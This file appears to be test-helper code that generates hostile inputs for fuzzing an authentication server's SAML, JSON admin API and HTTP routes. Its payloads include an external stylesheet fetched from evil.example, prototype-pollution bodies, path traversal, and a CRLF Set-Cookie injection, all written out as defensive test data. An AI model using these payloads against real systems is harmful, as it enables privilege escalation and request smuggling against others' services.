  fc.constant(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>${assertionAround('')}`),
  fc.constant(`<?xml version="1.0" encoding="UTF-16"?>${assertionAround('')}`),
  fc.constant(`\ufeff${assertionAround('')}`),
  fc.constant(assertionAround('<saml:Subject><saml:NameID><![CDATA[alice]]></saml:NameID></saml:Subject>')),
  fc.constant(assertionAround('<saml:Subject><saml:NameID>&#0;&#xD800;&undefined;</saml:NameID></saml:Subject>')),
  fc.constant(`${assertionAround('')}${assertionAround('')}`),
  fc.constant(assertionAround('<saml:Subject><saml:NameID>alice</saml:NameID>')),
  fc.constant('<saml:Assertion'),
  fc.constant(''),
  hostileText,
  hostileText.map((text) => assertionAround(`<saml:Subject><saml:NameID>${text}</saml:NameID></saml:Subject>`)),
);

/** How the XML reaches the `assertion` parameter: as RFC 7522 says (base64url), or wrongly. */
export const xmlEncoding = fc.constantFrom<(xml: string) => string>(
  (xml) => base64url(xml),
  (xml) => base64url(xml),
  (xml) => Buffer.from(xml).toString('base64'),
  (xml) => base64url(Buffer.from(xml, 'utf16le')),
  (xml) => base64url(Buffer.from(xml, 'latin1')),
  (xml) => `${base64url(xml)}\n`,
  (xml) => xml,
);

// ---------------------------------------------------------------------------------------------
// JSON bodies (the admin API, dynamic registration)

/** JSON text written by hand, so that `__proto__`, duplicate keys and unrepresentable numbers can be in it. */
const jsonScalar: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('null', 'true', 'false', '0', '-0', '-1', '0.5', '1e309', '-1e309', '1e-400', '12345678901234567890123', '9007199254740993', '2147483648', '""', '[]', '{}'),
  fc.constantFrom('"\\ud800"', '"\\u0000"', '"\\udfff\\ud800"', '"\\u202e"'),
  hostileText.map((text) => JSON.stringify(text)),
);

function jsonKey(fields: readonly string[]): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: fields.length > 0 ? fc.constantFrom(...fields) : hostileText },
    { weight: 1, arbitrary: fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', '') },
    { weight: 1, arbitrary: hostileText },
  );
}

function jsonValueText(fields: readonly string[]): fc.Arbitrary<string> {
  return fc.letrec<{ value: string; array: string; object: string }>((tie) => ({
    value: fc.oneof({ depthSize: 'small', withCrossShrink: true }, jsonScalar, tie('array'), tie('object')),
    array: fc.array(tie('value'), { maxLength: 4 }).map((items) => `[${items.join(',')}]`),
    object: fc
      .array(fc.tuple(jsonKey(fields), tie('value')), { maxLength: 4 })
      .map((entries) => `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${value}`).join(',')}}`),
  })).value;
}

/** Nesting deeper than any record: as a whole body, or as the value of a field. */
const deepJson: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(40, 2_000, 20_000, 100_000), fc.constantFrom(['[', ']'], ['{"a":', '}']))
  .map(([depth, [open, close]]) => nested(depth, open!, close!, '1'));

const malformedJson = fc.constantFrom(
  '{',
  '{"a":}',
  "{'a':1}",
  '{"a":1,}',
  'NaN',
  '{"a":NaN}',
  '// comment\n{}',
  '\ufeff{}',
  '{"a":"\u0000"}',
  '{"a":"line\nbreak"}',
  '',
  ' ',
  '{"a":1}{"b":2}',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
);

/**
 * A hostile JSON body for a route whose fields are `fields` (nested fields of `settings`
 * included): wrong types in known fields, unknown and prototype keys, duplicates, non-objects,
 * depth, size, invalid JSON and invalid UTF-8.
 */
export function hostileJsonBody(fields: readonly string[], base: Readonly<Record<string, unknown>> = {}): fc.Arbitrary<string | Buffer> {
  const value = jsonValueText(fields);
  const fieldValue = fc.oneof({ weight: 4, arbitrary: value }, { weight: 1, arbitrary: deepJson }, { weight: 1, arbitrary: settingsObject(value) });
  // The base members first: a hostile member of the same name comes after, as a duplicate key.
  const leading = Object.entries(base).map(([key, item]) => `${JSON.stringify(key)}:${JSON.stringify(item)}`);
  const object = fc
    .array(fc.tuple(jsonKey(fields), fieldValue), { minLength: 1, maxLength: 5 })
    .map((entries) => `{${[...leading, ...entries.map(([key, item]) => `${JSON.stringify(key)}:${item}`)].join(',')}}`);
  return fc.oneof(
    { weight: 8, arbitrary: object },
    { weight: 2, arbitrary: value },
    { weight: 1, arbitrary: deepJson },
    { weight: 2, arbitrary: malformedJson },
    {
      weight: 1,
      arbitrary: fc.constantFrom(...(fields.length > 0 ? fields : ['name'])).map((field) =>
        Buffer.concat([Buffer.from(`{"${field}":"`), Buffer.from([0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80]), Buffer.from('"}')]),
      ),
    },
    { weight: 1, arbitrary: fc.constantFrom(300_000, 2_000_000).map((length) => `{"${fields[0] ?? 'name'}":"${'a'.repeat(length)}"}`) },
  );
}

/** Realm settings with hostile values: every setting name is a field the schema checks. */
function settingsObject(value: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc
    .array(fc.tuple(fc.constantFrom(...Object.keys(DEFAULT_SETTINGS), '__proto__'), fc.oneof(value, deepJson)), { minLength: 1, maxLength: 4 })
    .map((entries) => `{${entries.map(([key, item]) => `${JSON.stringify(key)}:${item}`).join(',')}}`);
}

/** Content types the admin API and registration do not take, or take with a broken charset. */
export const jsonContentType: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 8, arbitrary: fc.constant('application/json') },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      FORM,
      'text/plain',
      'application/xml',
      'multipart/form-data; boundary=x',
      'application/json; charset=utf-16',
      'application/json; charset=latin1',
      'application/jsonx',
      'application/json, text/plain',
      'application/merge-patch+json',
    ),
  },
  { weight: 1, arbitrary: fc.constant(undefined) },
);

/** A path segment an attacker puts where a name or id goes: traversal, bad escapes, prototype keys, length. */
const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('..', '%2e%2e', '..%2f..%2fadmin', '%2F', '%00', 'a%00b', '%ff', '%E0%A4%A', '%zz', '__proto__', 'constructor', '%20', 'a%0d%0aSet-Cookie:x=1', 'root'),
  fc.constantFrom(99, 101, 300, 3_000).map((length) => 'a'.repeat(length)),
  hostileText.filter((text) => text.length <= 2_000).map((text) => encodeURIComponent(text.replace(/[\ud800-\udfff]/g, '?'))),
);

/** Fastify's router answers a segment that is not valid percent-encoded UTF-8, or longer than 100 characters, itself. */
function isRoutable(segment: string): boolean {
  if (segment.length > 100) return false;
  try {
    decodeURIComponent(segment);
    return true;
  } catch {
    return false;
  }
}

/** Hostile segments that reach the routes' own code (the others are the router's: test/hostile/raw-http.test.ts). */
export const routableSegment: fc.Arbitrary<string> = hostileSegment.filter(isRoutable);

// ---------------------------------------------------------------------------------------------
// Raw HTTP: what `inject` cannot carry (bytes in the request line, broken headers, streamed bodies)

export interface RawResponse {
  status: number;
  headers: Record<string, string>;
  body: string;
}

/**
 * Writes `request` (the whole of it, or chunk after chunk) to a new connection and reads the
 * first response: undefined when the server closed the connection without one, or gave none
 * within `timeoutMs`.
 */
export function rawExchange(port: number, request: Buffer | readonly Buffer[], timeoutMs = 5_000): Promise<RawResponse | undefined> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    const received: Buffer[] = [];
    const finish = () => {
      clearTimeout(timer);
      socket.destroy();
      resolve(parseResponse(Buffer.concat(received)));
    };
    const timer = setTimeout(finish, timeoutMs);
    socket.on('data', (chunk: Buffer) => {
      received.push(chunk);
      if (parseResponse(Buffer.concat(received), true)) finish();
    });
    socket.on('error', finish);
    socket.on('close', finish);
    socket.on('connect', () => {
      for (const chunk of Array.isArray(request) ? request : [request]) if (socket.writable) socket.write(chunk);
    });
  });
}

/** The first HTTP/1.1 response in `bytes`; with `complete`, only once all of its body is there. */
function parseResponse(received: Buffer, complete = false): RawResponse | undefined {
  // Interim answers (100 Continue) come before the response.
  const interim = /^(?:HTTP\/1\.1 1\d\d [^\r]*\r\n\r\n)+/.exec(received.toString('latin1'))?.[0].length ?? 0;
  const bytes = received.subarray(interim);
  const text = bytes.toString('latin1');
  const end = text.indexOf('\r\n\r\n');
  if (end === -1) return undefined;
  const [statusLine, ...lines] = text.slice(0, end).split('\r\n');
  const status = /^HTTP\/1\.[01] (\d{3})/.exec(statusLine ?? '')?.[1];
  if (!status) return undefined;
  const headers: Record<string, string> = {};
  for (const line of lines) {
    const colon = line.indexOf(':');
    if (colon > 0) headers[line.slice(0, colon).trim().toLowerCase()] = line.slice(colon + 1).trim();
  }
  let rest = bytes.subarray(Buffer.byteLength(text.slice(0, end + 4), 'latin1'));
  if (headers['transfer-encoding'] === 'chunked') {
    const chunks: Buffer[] = [];
    for (;;) {
      const lineEnd = rest.indexOf('\r\n');
      if (lineEnd === -1) return complete ? undefined : { status: Number(status), headers, body: Buffer.concat(chunks).toString('utf8') };
      const size = Number.parseInt(rest.subarray(0, lineEnd).toString('latin1'), 16);
      if (size === 0) break;
      if (rest.length < lineEnd + 2 + size) return complete ? undefined : { status: Number(status), headers, body: Buffer.concat(chunks).toString('utf8') };
      chunks.push(rest.subarray(lineEnd + 2, lineEnd + 2 + size));
      rest = rest.subarray(lineEnd + 4 + size);
    }
    return { status: Number(status), headers, body: Buffer.concat(chunks).toString('utf8') };
  }
  const length = headers['content-length'] === undefined ? undefined : Number(headers['content-length']);
  if (complete && (length === undefined || rest.length < length)) return undefined;
  return { status: Number(status), headers, body: rest.subarray(0, length).toString('utf8') };
}

// ---------------------------------------------------------------------------------------------
// Certificates (the SAML issuer of the fixtures)

/** A self-signed EC certificate, PEM, made with the openssl CLI as the SAML tests make theirs. */
export function selfSignedCertificate(name: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'realmgate-hostile-'));
  try {
    execFileSync(
      'openssl',
      ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-days', '2', '-keyout', 'key.pem', '-out', 'cert.pem', '-subj', `/CN=${name}`],
      { cwd: dir, stdio: ['ignore', 'ignore', 'pipe'] },
    );
    return readFileSync(join(dir, 'cert.pem'), 'utf8');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

export { ADMIN_TOKEN };
